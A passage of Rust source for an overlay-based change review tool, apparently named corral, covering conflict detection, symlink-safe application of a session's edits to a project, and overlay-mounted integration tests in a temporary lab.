        (Kind::Dir, Kind::Dir) => um.mode() & APPLIED_MODE_BITS == lm.mode() & APPLIED_MODE_BITS,
        (Kind::Symlink, Kind::Symlink) => {
            fs::read_link(&up).map_err(|e| io_at("readlink", &up, e))?
                == fs::read_link(&lp).map_err(|e| io_at("readlink", &lp, e))?
        }
        _ => false,
    })
}

/// Why applying `c` could overwrite something the user did on the host since the session started.
/// `made_dirs`: the directories this apply creates (an added path's directory may be one).
fn conflict(
    c: &Change,
    upper: &Path,
    lower: &Path,
    started: (i64, i64),
    made_dirs: &BTreeSet<&Path>,
) -> io::Result<Option<String>> {
    const CHANGED: &str = "changed on the host since the session started";
    let now = lower_lstat(lower, &c.path)?;
    let lp = lower.join(&c.path);
    Ok(match (c.kind, now) {
        (ChangeKind::Deleted, None) => None,
        (ChangeKind::Deleted, Some(m)) => (tree_ctime(&lp, &m)? > started).then(|| CHANGED.to_string()),
        (ChangeKind::Added, Some(m)) => {
            if same_as_upper(upper, lower, &c.path, &m)? {
                None
            } else {
                Some(format!(
                    "the project has a {} there now, created since the session started",
                    Kind::of(&m).name()
                ))
            }
        }
        // Nothing there: adding overwrites nothing. (The directory's own ctime says nothing
        // useful: any file added beside, or an earlier partial apply of this session, bumps it.)
        // A directory the user removed on the host meanwhile is not silently brought back.
        (ChangeKind::Added, None) => {
            let parent = c.path.parent().unwrap_or(Path::new(""));
            match lower_lstat(lower, parent)? {
                Some(pm) if pm.is_dir() => None,
                _ if made_dirs.contains(parent) => None,
                _ => Some(format!(
                    "its directory {} is gone from the project (removed on the host?)",
                    parent.display()
                )),
            }
        }
        (ChangeKind::Modified | ChangeKind::ModeChanged | ChangeKind::TypeChanged, None) => {
            Some("deleted on the host since the session started".to_string())
        }
        (ChangeKind::Modified | ChangeKind::ModeChanged | ChangeKind::TypeChanged, Some(m)) => {
            if same_as_upper(upper, lower, &c.path, &m)? {
                None
            } else {
                // A directory being replaced goes with everything below it; a mode change keeps it.
                let latest = if c.kind == ChangeKind::TypeChanged {
                    tree_ctime(&lp, &m)?
                } else {
                    ctime_of(&m)
                };
                (latest > started).then(|| CHANGED.to_string())
            }
        }
    })
}

/// The changes to consider: all, or those under `only` plus the directories the upper layer
/// creates above them; each with whether `only` names it.
fn select<'c>(changes: &'c [Change], only: &[PathBuf]) -> Vec<(&'c Change, bool)> {
    if only.is_empty() {
        return changes.iter().map(|c| (c, false)).collect();
    }
    let picked: Vec<&Change> = changes.iter().filter(|c| named(&c.path, only)).collect();
    let creates_dir = |c: &Change| c.is_dir && matches!(c.kind, ChangeKind::Added | ChangeKind::TypeChanged);
    // Only named changes and the directories they need: both count as named.
    changes
        .iter()
        .filter(|c| {
            named(&c.path, only) || (creates_dir(c) && picked.iter().any(|p| p.path.starts_with(&c.path)))
        })
        .map(|c| (c, true))
        .collect()
}

/// The changes [`apply`] would consider, sorted out.
#[derive(Debug)]
struct Sorted<'c> {
    /// To apply, in path order.
    todo: Vec<&'c Change>,
    /// Exec triggers neither named nor included, and what is below them.
    skipped_triggers: Vec<PathBuf>,
    /// Fifos, sockets, devices.
    special: Vec<&'c Change>,
}

fn sort_out<'c>(changes: &'c [Change], opts: &ApplyOpts) -> Sorted<'c> {
    let mut sorted = Sorted {
        todo: Vec::new(),
        skipped_triggers: Vec::new(),
        special: Vec::new(),
    };
    let mut skipped_roots: Vec<&Path> = Vec::new();
    for (c, is_named) in select(changes, opts.only) {
        if skipped_roots.iter().any(|s| c.path.starts_with(s)) {
            sorted.skipped_triggers.push(c.path.clone());
        } else if c.trigger && !is_named && !opts.include_triggers {
            sorted.skipped_triggers.push(c.path.clone());
            skipped_roots.push(&c.path);
        } else if c.special {
            sorted.special.push(c);
        } else {
            sorted.todo.push(c);
        }
    }
    sorted
}

/// The exec triggers [`apply`] with these options would write (the ones to ask the user about).
pub fn triggers_to_apply<'c>(changes: &'c [Change], opts: &ApplyOpts) -> Vec<&'c Change> {
    sort_out(changes, opts)
        .todo
        .into_iter()
        .filter(|c| c.trigger)
        .collect()
}

/// Applies the changes (restricted by `opts.only`) to the project `lower`, from the upper layer.
/// Exec triggers are skipped unless named or included. When a path changed on the host since
/// `started_ctime` and not `opts.force`, nothing is applied and the report lists the conflicts.
/// Errors name the path and the operation; what was applied before an error stays applied.
pub fn apply(
    changes: &[Change],
    upper: &Path,
    lower: &Path,
    started_ctime: (i64, i64),
    opts: &ApplyOpts,
) -> anyhow::Result<ApplyReport> {
    let sorted = sort_out(changes, opts);
    let mut report = ApplyReport {
        skipped_triggers: sorted.skipped_triggers,
        ..ApplyReport::default()
    };
    for c in sorted.special {
        let what = fs::symlink_metadata(upper.join(&c.path)).map_or("special file", |m| Kind::of(&m).name());
        report.unsupported.push((
            c.path.clone(),
            format!("a {what}: corral applies files, directories and symlinks only"),
        ));
    }
    let todo = sorted.todo;
    let made = made_dirs(&todo);
    for c in &todo {
        if let Some(why) = conflict(c, upper, lower, started_ctime, &made)? {
            report.conflicts.push((c.path.clone(), why));
        }
    }
    if !report.conflicts.is_empty() && !opts.force {
        return Ok(report);
    }
    check_parents(&todo, lower)?;
    let root = rustix::fs::open(
        lower,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| sys_err(format!("open({}, O_DIRECTORY)", lower.display()), e))?;
    let mut dir_modes: Vec<(PathBuf, u32)> = Vec::new();
    for c in &todo {
        apply_one(&root, upper, lower, c, &mut dir_modes)
            .with_context(|| format!("applying {} ({:?})", c.path.display(), c.kind))?;
        report.applied.push(c.path.clone());
    }
    // Directory modes last, deepest first: a mode without write permission must not stop what is
    // written below it.
    dir_modes.sort_by(|a, b| b.0.cmp(&a.0));
    for (rel, mode) in dir_modes {
        let (parent, name) = open_parent(&root, lower, &rel)?;
        let fd = rustix::fs::openat(
            &parent,
            &name,
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .map_err(|e| {
            sys_err(
                format!("open({}, O_DIRECTORY|O_NOFOLLOW)", lower.join(&rel).display()),
                e,
            )
        })?;
        rustix::fs::fchmod(&fd, Mode::from_raw_mode(mode & APPLIED_MODE_BITS)).map_err(|e| {
            sys_err(
                format!(
                    "fchmod({}, {:o})",
                    lower.join(&rel).display(),
                    mode & APPLIED_MODE_BITS
                ),
                e,
            )
        })?;
    }
    // One flush for all the files written, rather than an fsync each.
    rustix::fs::syncfs(&root).map_err(|e| sys_err(format!("syncfs({})", lower.display()), e))?;
    Ok(report)
}

/// The directories that applying `todo` creates.
fn made_dirs<'c>(todo: &[&'c Change]) -> BTreeSet<&'c Path> {
    todo.iter()
        .filter(|c| c.is_dir && matches!(c.kind, ChangeKind::Added | ChangeKind::TypeChanged))
        .map(|c| c.path.as_path())
        .collect()
}

/// Refuses, before anything is written, a change whose directory in the project is a symlink, not a
/// directory, or missing, unless the change list itself makes it a directory first.
fn check_parents(todo: &[&Change], lower: &Path) -> anyhow::Result<()> {
    let made_dirs = made_dirs(todo);
    for c in todo {
        let mut prefix = PathBuf::new();
        let comps: Vec<Component> = c.path.components().collect();
        for comp in &comps[..comps.len().saturating_sub(1)] {
            if !matches!(comp, Component::Normal(_)) {
                bail!(
                    "refusing to apply {}: not a plain relative path",
                    c.path.display()
                );
            }
            prefix.push(comp);
            if made_dirs.contains(prefix.as_path()) {
                break;
            }
            let p = lower.join(&prefix);
            match fs::symlink_metadata(&p) {
                Ok(m) if m.is_dir() => {}
                Ok(m) => bail!(
                    "refusing to apply {}: {} in the project is a {}, not a directory",
                    c.path.display(),
                    p.display(),
                    Kind::of(&m).name()
                ),
                Err(e) => {
                    return Err(io_at("lstat", &p, e))
                        .with_context(|| format!("refusing to apply {}", c.path.display()))
                }
            }
        }
    }
    Ok(())
}

/// Opens the directory holding `rel` below `root`, one component at a time with `O_NOFOLLOW`.
fn open_parent(root: &OwnedFd, lower: &Path, rel: &Path) -> anyhow::Result<(OwnedFd, OsString)> {
    let comps: Vec<&OsStr> = rel
        .components()
        .map(|c| match c {
            Component::Normal(n) => Ok(n),
            _ => Err(anyhow!("refusing {}: not a plain relative path", rel.display())),
        })
        .collect::<anyhow::Result<_>>()?;
    let Some((name, dirs)) = comps.split_last() else {
        bail!("refusing to write the project root itself");
    };
    let mut cur = rustix::fs::openat(
        root,
        ".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| sys_err(format!("open({})", lower.display()), e))?;
    let mut at = lower.to_path_buf();
    for d in dirs {
        at.push(d);
        cur = rustix::fs::openat(
            &cur,
            *d,
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .map_err(|e| {
            let why = match e {
                Errno::LOOP | Errno::NOTDIR => {
                    ": a symlink or not a directory in the project, never written through"
                }
                _ => "",
            };
            sys_err(format!("open({}, O_DIRECTORY|O_NOFOLLOW){why}", at.display()), e)
        })?;
    }
    Ok((cur, name.to_os_string()))
}

/// `.NAME.corral-apply-PID`, beside the target.
fn temp_name(name: &OsStr) -> OsString {
    let pid = std::process::id();
    if name.len() > MAX_NAME_IN_TEMP {
        return OsString::from(format!(".corral-apply-{pid}"));
    }
    let mut t = OsString::from(".");
    t.push(name);
    t.push(format!(".corral-apply-{pid}"));
    t
}

/// The type of `name` in `dir` (not following a symlink); None when absent.
fn type_at(dir: &OwnedFd, name: &OsStr, shown: &Path) -> anyhow::Result<Option<FileType>> {
    match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => Ok(Some(FileType::from_raw_mode(st.st_mode))),
        Err(Errno::NOENT) => Ok(None),
        Err(e) => Err(sys_err(format!("lstat({})", shown.display()), e)),
    }
}

fn apply_one(
    root: &OwnedFd,
    upper: &Path,
    lower: &Path,
    c: &Change,
    dir_modes: &mut Vec<(PathBuf, u32)>,
) -> anyhow::Result<()> {
    let (parent, name) = open_parent(root, lower, &c.path)?;
    let target = lower.join(&c.path);
    if c.kind == ChangeKind::Deleted {
        return remove_tree_at(&parent, &name, &target);
    }
    let up = upper.join(&c.path);
    let um = fs::symlink_metadata(&up).with_context(|| format!("lstat {}", up.display()))?;
    let mode = um.mode() & APPLIED_MODE_BITS;
    let existing = type_at(&parent, &name, &target)?;
    match Kind::of(&um) {
        Kind::Dir => {
            match existing {
                Some(FileType::Directory) => {}
                Some(_) => {
                    remove_tree_at(&parent, &name, &target)?;
                    mkdir_at(&parent, &name, &target)?;
                }
                None => mkdir_at(&parent, &name, &target)?,
            }
            dir_modes.push((c.path.clone(), mode));
            Ok(())
        }
        Kind::File | Kind::Symlink => {
            let tmp = temp_name(&name);
            let tmp_shown = target.with_file_name(&tmp);
            // A temporary file left by a killed apply of ours.
            let _ = rustix::fs::unlinkat(&parent, &tmp, AtFlags::empty());
            let written = if um.is_symlink() {
                let t = fs::read_link(&up).with_context(|| format!("readlink {}", up.display()))?;
                rustix::fs::symlinkat(&t, &parent, &tmp)
                    .map_err(|e| sys_err(format!("symlink({} → {})", tmp_shown.display(), t.display()), e))
            } else {
                write_file_at(&parent, &tmp, &tmp_shown, &up, mode)
            };
            let placed = written.and_then(|()| {
                if existing == Some(FileType::Directory) {
                    remove_tree_at(&parent, &name, &target)?;
                }
                rustix::fs::renameat(&parent, &tmp, &parent, &name).map_err(|e| {
                    sys_err(
                        format!("rename({} → {})", tmp_shown.display(), target.display()),
                        e,
                    )
                })
            });
            if placed.is_err() {
                let _ = rustix::fs::unlinkat(&parent, &tmp, AtFlags::empty());
            }
            placed
        }
        other @ (Kind::Whiteout | Kind::Special(_)) => bail!(
            "{} is now a {} in the upper layer: the session changed it after the list was made",
            up.display(),
            other.name()
        ),
    }
}

fn mkdir_at(parent: &OwnedFd, name: &OsStr, shown: &Path) -> anyhow::Result<()> {
    rustix::fs::mkdirat(parent, name, Mode::from_raw_mode(CREATE_DIR_MODE))
        .map_err(|e| sys_err(format!("mkdir({}, {CREATE_DIR_MODE:o})", shown.display()), e))
}

/// Writes `tmp` in `parent` (new, `O_EXCL|O_NOFOLLOW`) with the bytes of the upper file `src` and
/// the mode `mode`.
fn write_file_at(
    parent: &OwnedFd,
    tmp: &OsStr,
    tmp_shown: &Path,
    src: &Path,
    mode: u32,
) -> anyhow::Result<()> {
    let fd = rustix::fs::openat(
        parent,
        tmp,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )
    .map_err(|e| {
        sys_err(
            format!("open({}, O_CREAT|O_EXCL|O_NOFOLLOW)", tmp_shown.display()),
            e,
        )
    })?;
    let mut out = fs::File::from(fd);
    let mut input = open_nofollow(src)?;
    io::copy(&mut input, &mut out)
        .with_context(|| format!("copying {} → {}", src.display(), tmp_shown.display()))?;
    rustix::fs::fchmod(&out, Mode::from_raw_mode(mode))
        .map_err(|e| sys_err(format!("fchmod({}, {mode:o})", tmp_shown.display()), e))
}

/// Removes `name` in `parent` and, for a directory, everything below it, never following a
/// symlink. A directory we may not read or write into (overlayfs leaves `work/work` at mode 000)
/// gets `u+rwx` first: it is going anyway.
fn remove_tree_at(parent: &OwnedFd, name: &OsStr, shown: &Path) -> anyhow::Result<()> {
    let st = match rustix::fs::statat(parent, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => st,
        Err(Errno::NOENT) => return Ok(()),
        Err(e) => return Err(sys_err(format!("lstat({})", shown.display()), e)),
    };
    if FileType::from_raw_mode(st.st_mode) != FileType::Directory {
        return rustix::fs::unlinkat(parent, name, AtFlags::empty())
            .map_err(|e| sys_err(format!("unlink({})", shown.display()), e));
    }
    if st.st_mode & 0o700 != 0o700 {
        let mode = (st.st_mode & MODE_BITS) | 0o700;
        rustix::fs::chmodat(parent, name, Mode::from_raw_mode(mode), AtFlags::empty())
            .map_err(|e| sys_err(format!("chmod({}, {mode:o})", shown.display()), e))?;
    }
    let dir = rustix::fs::openat(
        parent,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| sys_err(format!("open({}, O_DIRECTORY|O_NOFOLLOW)", shown.display()), e))?;
    let mut names = Vec::new();
    for e in
        rustix::fs::Dir::read_from(&dir).map_err(|e| sys_err(format!("opendir({})", shown.display()), e))?
    {
        let e = e.map_err(|e| sys_err(format!("readdir({})", shown.display()), e))?;
        let n = e.file_name().to_bytes();
        if n != b"." && n != b".." {
            names.push(OsStr::from_bytes(n).to_os_string());
        }
    }
    for n in names {
        remove_tree_at(&dir, &n, &shown.join(&n))?;
    }
    rustix::fs::unlinkat(parent, name, AtFlags::REMOVEDIR)
        .map_err(|e| sys_err(format!("rmdir({})", shown.display()), e))
}

/// Removes the review directory `reviews/<id>` entirely (its upper layer holds whiteouts, and its
/// work directory a directory of mode 000).
pub fn discard(dir: &Path) -> anyhow::Result<()> {
    let (Some(parent), Some(name)) = (dir.parent(), dir.file_name()) else {
        bail!("refusing to remove {}: not a review directory", dir.display());
    };
    if !dir.join(META).is_file() {
        bail!(
            "refusing to remove {}: no {META} in it, not a review directory",
            dir.display()
        );
    }
    let pfd = rustix::fs::open(
        parent,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| sys_err(format!("open({}, O_DIRECTORY)", parent.display()), e))?;
    remove_tree_at(&pfd, name, dir)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use pretty_assertions::assert_eq;
    use proptest::prelude::*;
    use sha2::Digest;
    use std::collections::BTreeMap;
    use std::os::unix::fs::PermissionsExt;
    use std::process::Command;
    use std::sync::OnceLock;

    /// When the tests run as root, the overlay is mounted as this user (`corral-test`): an
    /// unprivileged mount, as corral makes it. The files' owner must be mapped in its user
    /// namespace (or copy-up fails with EOVERFLOW), so the lab is handed to it.
    const TEST_UID: u32 = 1001;

    fn as_root() -> bool {
        rustix::process::geteuid().is_root()
    }

    /// A lower tree, a review directory (upper, work) and a mount point, in a throwaway directory
    /// under /tmp (world-traversable, for the test user).
    struct Lab {
        root: PathBuf,
        lower: PathBuf,
        review: PathBuf,
        upper: PathBuf,
        merged: PathBuf,
        /// A copy of the merged view, taken inside the session before it ends.
        snap: PathBuf,
        started: (i64, i64),
    }

    impl Lab {
        fn new() -> Lab {
            let root = tempfile::Builder::new()
                .prefix("corral-review-")
                .tempdir_in("/tmp")
                .unwrap()
                .keep();
            fs::set_permissions(&root, fs::Permissions::from_mode(0o755)).unwrap();
            let [lower, merged, snap] = ["lower", "merged", "snap"].map(|d| root.join(d));
            for d in [&lower, &merged, &snap] {
                fs::create_dir(d).unwrap();
                fs::set_permissions(d, fs::Permissions::from_mode(0o755)).unwrap();
            }
            let meta = ReviewMeta {
                id: "0123456789abcdef".into(),
                workspace: lower.clone(),
                profile: "default".into(),
                started_unix_ms: 1,
                started_ctime: (0, 0),
                ended: false,
            };
            let review = create_in(&root.join("reviews"), &meta).unwrap();
            Lab {
                upper: review.join(UPPER),
                review,
                root,
                lower,
                merged,
                snap,
                started: (0, 0),
            }
        }

        fn file(&self, rel: &str, content: &str, mode: u32) {
            let p = self.lower.join(rel);
            fs::write(&p, content).unwrap();
            fs::set_permissions(&p, fs::Permissions::from_mode(mode)).unwrap();
        }

        fn dir(&self, rel: &str, mode: u32) {
            let p = self.lower.join(rel);
            fs::create_dir(&p).unwrap();
            fs::set_permissions(&p, fs::Permissions::from_mode(mode)).unwrap();
        }

        fn symlink(&self, rel: &str, target: &str) {
            std::os::unix::fs::symlink(target, self.lower.join(rel)).unwrap();
        }

        /// Hands everything to the test user (as root) and reads the file clock: the session starts.
        fn start(&mut self) {
            if as_root() {
                chown_tree(&self.root);
            }
            let clock = self.root.join("clock");
            fs::write(&clock, "").unwrap();
            self.started = ctime_of(&fs::symlink_metadata(&clock).unwrap());
        }

        /// Mounts the overlay in a new user and mount namespace, runs `script` in the merged view,
        /// copies the merged view to `snap`.
        fn session(&self, script: &str) -> Result<(), String> {
            let full = format!(
                "set -e\nmount -t overlay overlay -o \"lowerdir=$L,upperdir=$U,workdir=$W,userxattr\" \"$M\"\n\
                 cd \"$M\"\numask 022\n{script}\ncd /\ncp -a \"$M/.\" \"$S/\"\n"
            );
            let mut cmd = if as_root() {
                let mut c = Command::new("setpriv");
                c.args([
                    &format!("--reuid={TEST_UID}"),
                    &format!("--regid={TEST_UID}"),
                    "--clear-groups",
                    "unshare",
                ]);
                c
            } else {
                Command::new("unshare")
            };
            let out = cmd
                .args(["-rm", "sh", "-c", &full])
                .env("L", &self.lower)
                .env("U", &self.upper)
                .env("W", self.review.join(WORK))
                .env("M", &self.merged)
                .env("S", &self.snap)
                .env("HOME", &self.root)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .output()
                .map_err(|e| format!("running unshare: {e}"))?;
            if out.status.success() {
                Ok(())
            } else {
                Err(format!(
                    "overlay session failed: {}",
                    String::from_utf8_lossy(&out.stderr).trim()
                ))
            }
        }

        fn changes(&self) -> Vec<Change> {
            changes(&self.upper, &self.lower).unwrap()
        }

        fn apply(&self, changes: &[Change], opts: &ApplyOpts) -> ApplyReport {
            apply(changes, &self.upper, &self.lower, self.started, opts).unwrap()
        }
    }

    impl Drop for Lab {
        fn drop(&mut self) {
            if let Ok(tmp) = rustix::fs::open("/tmp", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()) {
                let _ = remove_tree_at(&tmp, self.root.file_name().unwrap(), &self.root);
            }
        }
    }

    fn chown_tree(p: &Path) {
        std::os::unix::fs::lchown(p, Some(TEST_UID), Some(TEST_UID)).unwrap();
        if fs::symlink_metadata(p).unwrap().is_dir() {
            for e in fs::read_dir(p).unwrap() {
                chown_tree(&e.unwrap().path());
            }
        }
    }

    /// Whether an overlay can be mounted here; the reason when not.
    fn overlay_support() -> &'static Result<(), String> {
        static SUPPORT: OnceLock<Result<(), String>> = OnceLock::new();
        SUPPORT.get_or_init(|| {
            let mut lab = Lab::new();
            lab.start();
            lab.session("true")
        })
    }

    /// A lab with `fixture` in its lower tree, started; None (said out loud) when overlays cannot
    /// be mounted here.
    fn lab(fixture: fn(&Lab)) -> Option<Lab> {
        if let Err(why) = overlay_support() {
            if std::env::var_os("CORRAL_TEST_REQUIRE").is_some_and(|v| v == "1") {
                panic!("CORRAL_TEST_REQUIRE=1 but {why}");
            }
            eprintln!("skipping: {why}");
            return None;
        }
        let mut lab = Lab::new();
        fixture(&lab);
        lab.start();
        Some(lab)
    }

    fn project(lab: &Lab) {
        lab.file("a.txt", "alpha\n", 0o644);
        lab.file("b.txt", "beta\n", 0o644);
        lab.file("run.sh", "#!/bin/sh\necho hi\n", 0o644);
        lab.dir("src", 0o755);
        lab.file("src/lib.rs", "fn a() {}\n", 0o644);
        lab.file("src/main.rs", "fn main() {}\n", 0o644);
        lab.dir("docs", 0o755);
        lab.file("docs/x.md", "x\n", 0o644);
        lab.dir("docs/sub", 0o755);
        lab.file("docs/sub/y.md", "y\n", 0o644);
        lab.symlink("link", "a.txt");
        lab.file(".envrc", "use nix\n", 0o644);
    }

    /// An entry of a tree, as compared.
    #[derive(Debug, PartialEq, Eq)]
    enum Node {
        /// Mode and content (a hash when not UTF-8).
        File(u32, String),
        Dir(u32),
        Link(PathBuf),
        Other(String),
    }

    /// Every entry below `root` (not `root` itself).
    fn tree(root: &Path) -> BTreeMap<PathBuf, Node> {
        fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, Node>) {
            for e in fs::read_dir(dir).unwrap() {
                let p = e.unwrap().path();
                let m = fs::symlink_metadata(&p).unwrap();
                let mode = m.mode() & MODE_BITS;
                let node = match Kind::of(&m) {
                    Kind::File => {
                        let bytes = fs::read(&p).unwrap();
                        Node::File(
                            mode,
                            String::from_utf8(bytes.clone())
                                .unwrap_or_else(|_| format!("sha256 {:x}", sha2::Sha256::digest(&bytes))),
                        )
                    }
                    Kind::Dir => {
                        walk(root, &p, out);
                        Node::Dir(mode)
                    }
                    Kind::Symlink => Node::Link(fs::read_link(&p).unwrap()),
                    other => Node::Other(other.name().to_string()),
                };
                out.insert(p.strip_prefix(root).unwrap().to_path_buf(), node);
            }
        }
        let mut out = BTreeMap::new();
        walk(root, root, &mut out);
        out
    }

    /// A change with the defaults of a plain file; the rest by struct update.
    fn ch(path: &str, kind: ChangeKind) -> Change {
        Change {
            path: PathBuf::from(path),
            kind,
            is_dir: false,
            trigger: corral_core::changes::is_exec_trigger(Path::new(path)),
            binary: false,
            old_mode: None,
            new_mode: None,
            size: 0,
            special: false,
        }
    }

    fn added(path: &str, mode: u32, size: u64) -> Change {
        Change {
            new_mode: Some(mode),
            size,
            ..ch(path, ChangeKind::Added)
        }
    }

    fn added_dir(path: &str) -> Change {
        Change {
            is_dir: true,
            new_mode: Some(0o755),
            ..ch(path, ChangeKind::Added)
        }
    }

    fn modified(path: &str, mode: u32, size: u64) -> Change {
        Change {
            old_mode: Some(mode),
            new_mode: Some(mode),
            size,
            ..ch(path, ChangeKind::Modified)
        }
    }

    fn deleted_file(path: &str) -> Change {
        Change {
            old_mode: Some(0o644),
            ..ch(path, ChangeKind::Deleted)
        }
    }

    fn deleted_dir(path: &str) -> Change {
        Change {
            is_dir: true,
            old_mode: Some(0o755),
            ..ch(path, ChangeKind::Deleted)
        }
    }

    const ALL: ApplyOpts<'static> = ApplyOpts {
        only: &[],
        force: false,
        include_triggers: true,
    };

    fn paths(changes: &[Change]) -> Vec<PathBuf> {
        changes.iter().map(|c| c.path.clone()).collect()
    }

    #[test]
    fn each_kind_of_edit_is_one_change_and_apply_makes_the_project_what_the_session_saw() {
        use ChangeKind::*;
        let cases: Vec<(&str, &str, Vec<Change>)> = vec![
            (
                "create",
                "echo new > new.txt; mkdir -p newdir/inner; echo n > newdir/inner/f; ln -s src newlink",
                vec![
                    added("new.txt", 0o644, 4),
                    added_dir("newdir"),
                    added_dir("newdir/inner"),
                    added("newdir/inner/f", 0o644, 2),
                    added("newlink", 0o777, 3),
                ],
            ),
            (
                // Copied up by an open for writing and by touch, but unchanged: not changes.
                "modify",
                "echo more >> a.txt; : >> b.txt; touch run.sh",
                vec![modified("a.txt", 0o644, 11)],
            ),
            ("delete file and dir", "rm b.txt; rm -r docs", vec![deleted_file("b.txt"), deleted_dir("docs")]),
            (
                // Without redirect_dir a directory is renamed by copying.
                "rename file and dir",
                "mv a.txt c.txt; mv src lib",
                vec![
                    deleted_file("a.txt"),
                    added("c.txt", 0o644, 6),
                    added_dir("lib"),
                    added("lib/lib.rs", 0o644, 10),
                    added("lib/main.rs", 0o644, 13),
                    deleted_dir("src"),
                ],
            ),
            (
                "chmod",
                "chmod 755 run.sh; chmod 700 docs",
                vec![
                    Change { is_dir: true, old_mode: Some(0o755), new_mode: Some(0o700), ..ch("docs", ModeChanged) },
                    Change { old_mode: Some(0o644), new_mode: Some(0o755), size: 18, ..ch("run.sh", ModeChanged) },
                ],
            ),
            (
                "replace a dir by a file and a file by a dir",
                "rm -r docs; echo f > docs; rm b.txt; mkdir b.txt; echo in > b.txt/in",
                vec![
                    Change { is_dir: true, old_mode: Some(0o644), new_mode: Some(0o755), ..ch("b.txt", TypeChanged) },
                    added("b.txt/in", 0o644, 3),
                    Change { old_mode: Some(0o755), new_mode: Some(0o644), size: 2, ..ch("docs", TypeChanged) },
                ],
            ),
            (
                // docs becomes opaque: its old sub/y.md does not show through the new sub/.
                "rm -r and recreate",
                "rm -r docs; mkdir docs; echo again > docs/x.md; echo new > docs/new.md; mkdir docs/sub",
                vec![added("docs/new.md", 0o644, 4), deleted_file("docs/sub/y.md"), modified("docs/x.md", 0o644, 6)],
            ),
            (
                "retarget a symlink",
                "ln -sfn b.txt link",
                vec![Change { old_mode: Some(0o777), new_mode: Some(0o777), size: 5, ..ch("link", Modified) }],
            ),
            (
                "exec triggers",
                "echo 'use flake' > .envrc; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit; \
                 chmod 755 .git/hooks/pre-commit",
                vec![
                    modified(".envrc", 0o644, 10),
                    added_dir(".git"),
                    added_dir(".git/hooks"),
                    added(".git/hooks/pre-commit", 0o755, 10),
                ],
            ),
        ];
        for (name, script, expected) in cases {
            let Some(lab) = lab(project) else { return };
            let before = tree(&lab.lower);
            lab.session(script).unwrap();
            assert_eq!(
                tree(&lab.lower),
                before,
                "{name}: the session wrote to the project"
            );
            let changes = lab.changes();
            assert_eq!(changes, expected, "{name}");
            let report = lab.apply(&changes, &ALL);
            assert_eq!(
                (report.applied, report.skipped_triggers, report.conflicts),
                (paths(&expected), vec![], vec![]),
                "{name}"
            );
            assert_eq!(
                tree(&lab.lower),
                tree(&lab.snap),
                "{name}: the project is not the merged view"
            );
        }
    }

    #[test]
    fn discard_removes_the_review_and_leaves_the_project_as_it_was() {
        let Some(lab) = lab(project) else { return };
        let before = tree(&lab.lower);
        lab.session("rm -r docs; mkdir docs; echo z > docs/z; rm a.txt; echo n > n.txt")
            .unwrap();
        assert!(fs::symlink_metadata(lab.upper.join("a.txt"))
            .unwrap()
            .file_type()
            .is_char_device());
        discard(&lab.review).unwrap();
        assert!(!lab.review.exists());
        assert_eq!(tree(&lab.lower), before);
    }

    #[test]
    fn a_path_changed_on_the_host_is_a_conflict_and_nothing_is_applied_without_force() {
        let Some(lab) = lab(project) else { return };
        lab.session("echo agent >> a.txt; echo n > src/new.rs; echo c > c.txt")
            .unwrap();
        // The user edits a.txt and adds a file in src/ (beside one the session added) meanwhile.
        std::thread::sleep(std::time::Duration::from_millis(20));
        fs::write(lab.lower.join("a.txt"), "host\n").unwrap();
        fs::write(lab.lower.join("src/other.rs"), "host\n").unwrap();
        let changes = lab.changes();
        let report = lab.apply(&changes, &ALL);
        assert_eq!(
            (report.applied, report.conflicts),
            (
                vec![],
                vec![(
                    PathBuf::from("a.txt"),
                    "changed on the host since the session started".to_string()
                )]
            )
        );
        assert_eq!(fs::read_to_string(lab.lower.join("a.txt")).unwrap(), "host\n");
        assert!(
            !lab.lower.join("c.txt").exists(),
            "nothing is applied when something conflicts"
        );
        let report = lab.apply(&changes, &ApplyOpts { force: true, ..ALL });
        assert_eq!(report.applied, paths(&changes));
        assert_eq!(report.conflicts.len(), 1);
        assert_eq!(
            fs::read_to_string(lab.lower.join("a.txt")).unwrap(),
            "alpha\nagent\n"
        );
        assert_eq!(fs::read_to_string(lab.lower.join("src/new.rs")).unwrap(), "n\n");
        assert_eq!(
            fs::read_to_string(lab.lower.join("src/other.rs")).unwrap(),
            "host\n"
        );
    }

    #[test]
    fn a_path_created_on_the_host_meanwhile_is_a_conflict_unless_it_is_what_the_session_made() {
        let Some(lab) = lab(project) else { return };
        lab.session("echo same > same.txt; echo mine > other.txt")
            .unwrap();
        // Listed before the host writes (listed after, other.txt would be Modified: a ctime conflict).
        let changes = lab.changes();
        fs::write(lab.lower.join("other.txt"), "theirs\n").unwrap();
        let conflicts: Vec<(PathBuf, String)> = changes
            .iter()
            .filter_map(|c| {
                conflict(c, &lab.upper, &lab.lower, lab.started, &BTreeSet::new())
                    .unwrap()
                    .map(|w| (c.path.clone(), w))
            })
            .collect();
        assert_eq!(
            conflicts,
            vec![(
                PathBuf::from("other.txt"),
                "the project has a file there now, created since the session started".into()
            )]
        );
        // Applied once, the same change is no conflict the second time.
        lab.apply(&changes, &ApplyOpts { force: true, ..ALL });
        assert_eq!(lab.apply(&changes, &ALL).conflicts, vec![]);
    }

    #[test]
